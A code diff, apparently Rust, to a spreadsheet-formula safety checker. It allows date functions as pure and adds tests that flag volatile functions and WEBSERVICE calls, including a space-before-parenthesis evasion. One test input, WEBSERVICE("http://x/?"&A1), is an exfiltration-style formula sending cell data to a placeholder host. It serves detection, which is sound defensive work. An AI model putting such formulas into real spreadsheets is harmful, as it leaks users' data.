@@ -86,6 +86,11 @@ pub const PURE_FUNCTIONS: &[&str] = &[
     "INDEX",
     "MATCH",
     "VLOOKUP",
+    // Dates from numbers (not TODAY or NOW: volatile)
+    "DATE",
+    "DAY",
+    "MONTH",
+    "YEAR",
     // Text
     "CONCAT",
     "CONCATENATE",
@@ -441,6 +446,26 @@ mod tests {
         }
     }
 
+    #[test]
+    fn volatile_functions_are_not_kept() {
+        assert!(calls("TODAY()", "TODAY"));
+        assert!(calls("NOW()-A1", "NOW"));
+        assert!(calls("RAND()", "RAND"));
+    }
+    #[test]
+    fn a_space_before_the_parenthesis_is_not_a_way_around() {
+        assert_eq!(
+            why("WEBSERVICE (\"http://x\")"),
+            Some(Unsafe::DefinedName("WEBSERVICE".into()))
+        );
+    }
+    #[test]
+    fn a_name_after_a_sheet_is_a_defined_name() {
+        assert_eq!(
+            why("Sheet1!TongSo"),
+            Some(Unsafe::DefinedName("TongSo".into()))
+        );
+    }
     #[test]
     fn webservice() {
         assert!(calls("WEBSERVICE(\"http://x/?\"&A1)", "WEBSERVICE"));
